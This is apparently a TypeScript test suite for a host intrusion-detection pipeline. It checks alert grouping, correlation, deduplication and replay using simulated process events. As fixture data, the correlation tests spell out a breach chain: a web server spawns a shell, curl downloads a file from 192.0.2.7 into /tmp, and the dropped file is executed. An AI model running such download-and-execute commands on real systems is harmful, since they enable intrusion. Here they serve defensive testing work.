// Detection as a whole, without Kafka: batches in, findings and alerts out.
import { create, fromBinary } from '@bufbuild/protobuf';
import { toHex } from '@norn/base';
import type { BusRecord, OutRecord } from '@norn/bus';
import { event, finding } from '@norn/contracts';
import { CorrelationSet, RuleEngine } from '@norn/rules';
import { readRulePack } from '../src/adapters/rule-pack.ts';
import { AlertBook } from '../src/alerts/alert-book.ts';
import { Correlations } from '../src/correlations/correlations.ts';
import { createDetectionPipeline, createRecallPipeline } from '../src/detection.pipeline.ts';
import { FindingRates } from '../src/rates/finding-rates.ts';
import { Detector } from '../src/detector.ts';
import { batchRecord, process, reflexFinding, startUs, uid } from './simulated-host.ts';

const { EventKind } = event;
const windowMs = 600_000;
const pack = readRulePack();
const engine = new RuleEngine(pack.rules);

/** A detector whose outputs are kept in memory: what Kafka would hold. A new one over the same log stands for a restart. */
class DetectionInMemory {
  readonly written: Record<string, OutRecord[]> = { occurrences: [], findings: [], alerts: [], deadLetter: [] };
  private readonly log: BusRecord[] = [];
  private detector = this.start();

  async deliver(...records: BusRecord[]): Promise<void> {
    this.log.push(...records);
    await this.detector.handle({ topic: 'lineage', partition: 0, records, endOffset: 0 });
  }

  async restart(): Promise<void> {
    this.detector = this.start();
    await this.detector.prepare(0, Infinity);
  }

  get alerts(): finding.Alert[] {
    return this.written['alerts']!.map(({ value }) => fromBinary(finding.AlertSchema, value));
  }

  get findings(): finding.Finding[] {
    return this.written['findings']!.map(({ value }) => fromBinary(finding.FindingSchema, value));
  }

  private start(): Detector {
    const book = new AlertBook(BigInt(windowMs) * 1000n);
    const outputs = {
      send: (output: string, records: readonly OutRecord[]) => {
        this.written[output]!.push(...records);
        return Promise.resolve();
      },
    };
    const history = {
      read: (_partition: number, take: (alert: finding.Alert) => void) => {
        for (const alert of this.alerts) take(alert);
        return Promise.resolve();
      },
    };
    const correlations = new Correlations(new CorrelationSet(pack), 500);
    const rates = new FindingRates();
    return new Detector({
      pipeline: createDetectionPipeline({ engine, correlations, book, rates }),
      recall: createRecallPipeline({ engine, correlations, rates }),
      book,
      correlations,
      rates,
      history,
      batches: { read: (_partition, _nextOffset, take) => take(this.log) },
      outputs,
      proveAlert: (alert) => alert,
      partitionOf: () => 0,
      nowMs: () => 0,
    });
  }
}

const containerId = '4f'.repeat(32);
const entry = process('nginx', undefined, { containerId, imagePath: '/usr/sbin/nginx' });
const shell = process('sh', entry, { imagePath: '/bin/sh', commandLine: 'sh -c id' });
const python = process('python3', shell, { commandLine: 'python3' });
const exec = (by: typeof entry, afterMs = 0) => ({ kind: EventKind.EXEC, by, afterMs });
const touch = (by: typeof entry, afterMs = 0) => ({
  kind: EventKind.FILE_OPEN,
  path: '/srv/data/a',
  flags: 1,
  by,
  afterMs,
});

describe('detection', () => {
  it('opens one alert for a reflex finding, with tenant, host, lineage, container and a sentence', async () => {
    const detection = new DetectionInMemory();
    const containers = { [containerId]: 'web-1' };
    await detection.deliver(
      batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)], containers }),
    );

    expect(detection.alerts).toEqual([
      expect.objectContaining({
        tenantId: 'default',
        hostId: 'host-1',
        version: 1,
        severity: finding.Severity.CRITICAL,
        title: 'Files encrypted or wiped',
        summary: 'python3 encrypted 7 files in 38 ms',
        containerId,
        containerName: 'web-1',
        containerImage: 'web-1:1',
        processName: '/usr/bin/python3',
        techniques: ['T1486'],
        findingsTotal: 1,
        createdAtUs: BigInt(startUs),
      }),
    ]);
    const [alert] = detection.alerts;
    expect(toHex(alert!.lineageUid)).toBe(toHex(uid('nginx')));
    expect(toHex(alert!.scopeUid)).toBe(toHex(uid('python3')));
    expect(detection.findings[0]).toMatchObject({ pid: 'python3'.length });
    expect(detection.findings[0]!.ancestorPids.at(-1)).toBe('nginx'.length);
    expect(detection.findings.map(({ tenantId, hostId }) => `${tenantId}:${hostId}`)).toEqual(['default:host-1']);
    expect(alert!.id).toMatch(/^[0-9a-f]{32}$/);
  });

  it('joins rule and reflex findings of one lineage; severity, title and techniques are those of the worst', async () => {
    const detection = new DetectionInMemory();
    await detection.deliver(
      batchRecord({ seq: 1, rows: [exec(shell)] }),
      batchRecord({
        seq: 2,
        rows: [touch(python, 5000)],
        findings: [reflexFinding('a1', python, { timeUs: BigInt(startUs + 5_000_000) })],
      }),
    );
    const versions = detection.alerts;
    expect(versions.map(({ id, version, severity }) => [id, version, severity])).toEqual([
      [versions[0]!.id, 1, finding.Severity.HIGH],
      [versions[0]!.id, 2, finding.Severity.CRITICAL],
    ]);
    expect(versions[1]).toMatchObject({
      title: 'Files encrypted or wiped',
      findingsTotal: 2,
      techniques: ['T1505.003', 'T1059.004', 'T1486'],
    });
    expect(versions[1]!.updatedAtUs).toBe(BigInt(startUs + 5_000_000));
  });

  it('keeps other containers, other hosts, other tenants and other lineages apart', async () => {
    const detection = new DetectionInMemory();
    const elsewhere = process('python3', undefined, { containerId: 'ab'.repeat(32) });
    const unrelated = process('other', undefined, { containerId });
    const batch = { seq: 1, rows: [touch(python), touch(unrelated)] };
    await detection.deliver(
      batchRecord({ ...batch, findings: [reflexFinding('a1', python), reflexFinding('a2', unrelated)] }),
      batchRecord({ seq: 2, rows: [touch(elsewhere)], findings: [reflexFinding('a3', elsewhere)] }),
      batchRecord({ ...batch, findings: [reflexFinding('a1', python)] }, 'default:host-2'),
      batchRecord({ ...batch, findings: [reflexFinding('a1', python)] }, 'acme:host-1'),
    );
    expect(new Set(detection.alerts.map(({ id }) => id)).size).toBe(5);
  });

  it('keeps what is done to the agent apart from what else its lineage does, and together', async () => {
    const detection = new DetectionInMemory();
    const agent = (id: string) =>
      reflexFinding(id, python, { ruleId: 'norn.agent_attacked', title: 'Agent was attacked' });
    await detection.deliver(
      batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)] }),
      batchRecord({ seq: 2, rows: [touch(python)], findings: [agent('a2'), reflexFinding('a3', python), agent('a4')] }),
    );
    const newest = new Map(detection.alerts.map((alert) => [alert.id, alert]));
    expect([...newest.values()].map(({ title, findingsTotal }) => [title, findingsTotal])).toEqual([
      ['Files encrypted or wiped', 2],
      ['Agent was attacked', 2],
    ]);
  });

  it('joins by scope when the lineage is not known', async () => {
    const detection = new DetectionInMemory();
    const orphan = reflexFinding('a2', process('unseen', undefined, { containerId }), { scopeUid: shell.uid });
    await detection.deliver(batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)] }));
    await detection.deliver(batchRecord({ seq: 2, rows: [touch(python)], findings: [orphan] }));
    expect(detection.alerts.map(({ version, findingsTotal }) => [version, findingsTotal])).toEqual([
      [1, 1],
      [2, 2],
    ]);
  });

  it('opens a new alert for what another parent starts after the stop, and keeps what the same parent starts again', async () => {
    const detection = new DetectionInMemory();
    const session = process('bash');
    const [first, second] = [process('node-1', session), process('node-2', session)];
    const [encryptor, again, other] = [process('x-1', first), process('x-2', first), process('x-3', second)];
    const stop = (by: typeof session, afterMs: number) => {
      const timeUs = BigInt(startUs + afterMs * 1000);
      const response = { rung: finding.ResponseRung.KILLED, stoppedUs: timeUs, firstActUs: timeUs - 1000n };
      return reflexFinding(by.imagePath.slice(-1).repeat(4), by, {
        timeUs,
        response: create(finding.ResponseSchema, response),
      });
    };
    await detection.deliver(
      batchRecord({ seq: 1, rows: [touch(encryptor)], findings: [stop(encryptor, 0)] }),
      batchRecord({ seq: 2, rows: [touch(again, 5000)], findings: [stop(again, 5000)] }),
      batchRecord({ seq: 3, rows: [touch(other, 9000)], findings: [stop(other, 9000)] }),
    );
    const [one, , two] = detection.alerts;
    expect(detection.alerts.map(({ id, version }) => [id, version])).toEqual([
      [one!.id, 1],
      [one!.id, 2],
      [two!.id, 1],
    ]);
    expect(two!.id).not.toBe(one!.id);
  });

  it('opens a new alert when the window of event time has passed', async () => {
    const detection = new DetectionInMemory();
    const late = startUs + (windowMs + 1) * 1000;
    await detection.deliver(batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)] }));
    await detection.deliver(
      batchRecord({
        seq: 2,
        rows: [touch(python, windowMs + 1)],
        findings: [reflexFinding('a2', python, { timeUs: BigInt(late) })],
      }),
    );
    expect(new Set(detection.alerts.map(({ id }) => id)).size).toBe(2);
  });

  it('does not open an alert for what says little, but lets it join one', async () => {
    const detection = new DetectionInMemory();
    const little = (id: string) =>
      reflexFinding(id, python, { source: finding.FindingSource.RULE, severity: finding.Severity.LOW });
    await detection.deliver(batchRecord({ seq: 1, rows: [touch(python)], findings: [little('b1')] }));
    expect(detection.alerts).toEqual([]);
    expect(detection.findings).toHaveLength(1);
    await detection.deliver(
      batchRecord({ seq: 2, rows: [touch(python)], findings: [reflexFinding('a1', python), little('b2')] }),
    );
    expect(detection.alerts).toEqual([
      expect.objectContaining({ version: 1, findingsTotal: 2, severity: finding.Severity.CRITICAL }),
    ]);
  });

  it('changes nothing for a finding or a batch that comes again', async () => {
    const detection = new DetectionInMemory();
    const first = batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)] });
    await detection.deliver(first, first);
    await detection.deliver(batchRecord({ seq: 2, rows: [touch(python)], findings: [reflexFinding('a1', python)] }));
    expect(detection.alerts).toHaveLength(1);
    expect(detection.findings).toHaveLength(1);
  });

  it('adds the container name when the runtime tells it later', async () => {
    const detection = new DetectionInMemory();
    await detection.deliver(batchRecord({ seq: 1, rows: [touch(python)], findings: [reflexFinding('a1', python)] }));
    await detection.deliver(batchRecord({ seq: 2, rows: [touch(python)], containers: { [containerId]: 'web-1' } }));
    await detection.deliver(batchRecord({ seq: 3, rows: [touch(python)], containers: { [containerId]: 'web-1' } }));
    expect(detection.alerts.map(({ version, containerName }) => [version, containerName])).toEqual([
      [1, ''],
      [2, 'web-1'],
    ]);
  });

  it('keeps a hundred findings, counts on, and makes room for a reflex', async () => {
    const detection = new DetectionInMemory();
    const many = Array.from({ length: 150 }, (_, at) =>
      reflexFinding(`c${at}d`, python, { source: finding.FindingSource.RULE, severity: finding.Severity.MEDIUM }),
    );
    const rows = [touch(python)];
    await detection.deliver(batchRecord({ seq: 1, rows, findings: many }));
    await detection.deliver(batchRecord({ seq: 2, rows, findings: [reflexFinding('a1', python)] }));
    await detection.restart();
    await detection.deliver(
      batchRecord({ seq: 1, rows, findings: many }),
      batchRecord({ seq: 2, rows, findings: [reflexFinding('a1', python)] }),
    );
    expect(
      detection.alerts.map(({ version, findingsTotal, findings }) => [version, findingsTotal, findings.length]),
    ).toEqual([
      [1, 150, 100],
      [2, 151, 100],
    ]);
    expect(detection.alerts[1]!.findings.at(-1)!.id).toMatch(/^a1/);
  });

  it('lists everything that is to be answered, if need be in a further alert', async () => {
    const detection = new DetectionInMemory();
    const little = Array.from({ length: 100 }, (_, at) =>
      reflexFinding(`c${at}d`, python, { source: finding.FindingSource.RULE, severity: finding.Severity.MEDIUM }),
    );
    const answered = Array.from({ length: 130 }, (_, at) => reflexFinding(`a${at}f`, python));
    const rows = [touch(python)];
    const batches = [
      batchRecord({ seq: 1, rows, findings: little }),
      batchRecord({ seq: 2, rows, findings: answered }),
    ];
    await detection.deliver(...batches);
    await detection.restart();
    await detection.deliver(...batches);
    const newest = new Map(detection.alerts.map((alert) => [alert.id, alert]));
    expect([...newest.values()].map(({ findings }) => findings.length)).toEqual([100, 30]);
    const listed = [...newest.values()].flatMap(({ findings }) => findings.map(({ id }) => id));
    expect(listed.sort()).toEqual(answered.map(({ id }) => id).sort());
  });

  it('bounds what a host says, and refuses what no agent would say', async () => {
    const detection = new DetectionInMemory();
    const timeUs = 2n ** 63n;
    const findings = [
      { ...reflexFinding('a1', python), id: 'not hex' },
      reflexFinding('a2', python, { scopeUid: uid('x').slice(1) }),
      reflexFinding('a3', python, { containerId: 'a\0b' }),
      reflexFinding('a4', python, { timeUs }),
      reflexFinding('a5', python, { severity: 70_000 as never }),
      reflexFinding('a6', python, { summary: 'a\0'.repeat(5_000) }),
    ];
    await detection.deliver(batchRecord({ seq: 1, rows: [touch(python)], findings }));
    expect(detection.findings.map(({ id }) => id.slice(0, 2))).toEqual(['a6']);
    expect(detection.alerts[0]!.summary).toBe('a'.repeat(1_024));
  });

  it('sends what does not parse to the dead letters and goes on', async () => {
    const detection = new DetectionInMemory();
    const good = batchRecord({ seq: 2, rows: [touch(python)], findings: [reflexFinding('a1', python)] });
    await detection.deliver({ ...good, value: Uint8Array.from([8, 1, 255]) }, { ...good, key: 'nobody' }, good);
    expect(detection.alerts).toHaveLength(1);
    expect(detection.written['deadLetter']!.map(({ headers }) => headers['code'])).toEqual([
      'batch_malformed',
      'key_malformed',
    ]);
  });

  it('gives the same ids and content when the log is replayed, however often it was restarted', async () => {
    const log = [
      batchRecord({ seq: 1, rows: [exec(shell)] }),
      batchRecord({ seq: 2, rows: [exec(shell, 10), touch(python, 20)], findings: [reflexFinding('a1', python)] }),
      batchRecord({ seq: 3, rows: [touch(python, 30)], containers: { [containerId]: 'web-1' } }),
      batchRecord({
        seq: 4,
        rows: [touch(shell, 40)],
        findings: [reflexFinding('a2', shell, { severity: finding.Severity.HIGH })],
      }),
    ];
    const once = new DetectionInMemory();
    await once.deliver(...log);
    const again = new DetectionInMemory();
    await again.deliver(...log);
    const restarted = new DetectionInMemory();
    // Each batch once before a restart, and once more after it: a crash between the output and the commit.
    for (const record of log) {
      await restarted.deliver(record);
      await restarted.restart();
      await restarted.deliver(record);
    }
    expect(once.alerts.map(({ version }) => version)).toEqual([1, 2, 3, 4]);
    expect(again.written).toEqual(once.written);
    expect(restarted.written['alerts']).toEqual(once.written['alerts']);
    expect(restarted.written['findings']).toEqual(once.written['findings']);
  });
});

describe('correlations', () => {
  const title = 'A service was breached';
  const curl = process('curl', shell, { commandLine: 'curl -o /tmp/x http://192.0.2.7/x' });
  const dropped = process('x', shell, { imagePath: '/tmp/x', commandLine: '/tmp/x' });
  const steps = [exec(shell), exec(curl, 4_000), exec(dropped, 9_000)];
  const later = batchRecord({ seq: 9, rows: [exec(python, 20_000)] });
  const batches = steps.map((row, at) => batchRecord({ seq: at + 1, rows: [row] }));
  const breaches = ({ findings }: DetectionInMemory): finding.Finding[] =>
    findings.filter((each) => each.title === title);

  it('tell one story over many batches, in the alert of what began it', async () => {
    const detection = new DetectionInMemory();
    await detection.deliver(...batches, later);
    expect(breaches(detection)).toEqual([
      expect.objectContaining({
        severity: finding.Severity.CRITICAL,
        containerId,
        lineageUid: entry.uid,
        processUid: dropped.uid,
        timeUs: BigInt(startUs + 9_000_000),
        summary:
          'nginx started a shell: sh -c id, then curl fetched something: curl -o /tmp/x http://192.0.2.7/x, then x was started from /tmp/x',
      }),
    ]);
    const newest = detection.alerts.at(-1)!;
    expect(new Set(detection.alerts.map(({ id }) => id))).toEqual(new Set([newest.id]));
    expect(newest).toMatchObject({ title, severity: finding.Severity.CRITICAL });
    // Parts of a correlation alone are not told of.
    expect(detection.findings.map((each) => each.title)).not.toContain('Something is fetched from the network');
  });

  it('go by the microsecond, whatever the processes are called', async () => {
    // By their ids the last one would come first.
    const last = process('a', shell, { imagePath: '/tmp/a', commandLine: '/tmp/a' });
    const detection = new DetectionInMemory();
    const rows = [exec(shell), exec(curl, 0.3), exec(last, 0.6)];
    await detection.deliver(batchRecord({ seq: 1, rows }), later);
    expect(breaches(detection)).toHaveLength(1);
  });

  it('find the same once when batches come again, and when it is restarted in between', async () => {
    const detection = new DetectionInMemory();
    await detection.deliver(batches[0]!, batches[1]!);
    await detection.restart();
    await detection.deliver(batches[1]!, batches[2]!, later, batches[2]!);
    await detection.restart();
    await detection.deliver(later);
    expect(new Set(breaches(detection).map(({ id }) => id)).size).toBe(1);
    const straight = new DetectionInMemory();
    await straight.deliver(...batches, later);
    expect(breaches(detection)[0]).toEqual(breaches(straight)[0]);
  });

  it('say how many events are known to be lost in that time', async () => {
    const gap = { kind: EventKind.GAP, by: shell, afterMs: 6_000, value: 17n };
    const detection = new DetectionInMemory();
    await detection.deliver(batches[0]!, batchRecord({ seq: 2, rows: [steps[1]!, gap] }), batches[2]!, later);
    expect(breaches(detection)[0]?.evidence).toContainEqual(
      expect.objectContaining({ field: 'events.lost', value: '17' }),
    );
  });

  it('are told of in the alert they belong to, however late the host is heard again', async () => {
    const detection = new DetectionInMemory();
    const muchLater = batchRecord({ seq: 9, rows: [exec(python, 9_000 + 2 * windowMs)] });
    await detection.deliver(...batches, muchLater);
    expect(new Set(detection.alerts.map(({ id }) => id)).size).toBe(1);
    expect(detection.alerts.at(-1)).toMatchObject({ title });
  });

  it('go on after the clock of a host was set back', async () => {
    const detection = new DetectionInMemory();
    await detection.deliver(batchRecord({ seq: 1, rows: [exec(shell, 3_600_000)] }), ...batches, later);
    expect(breaches(detection)).toHaveLength(1);
  });
});
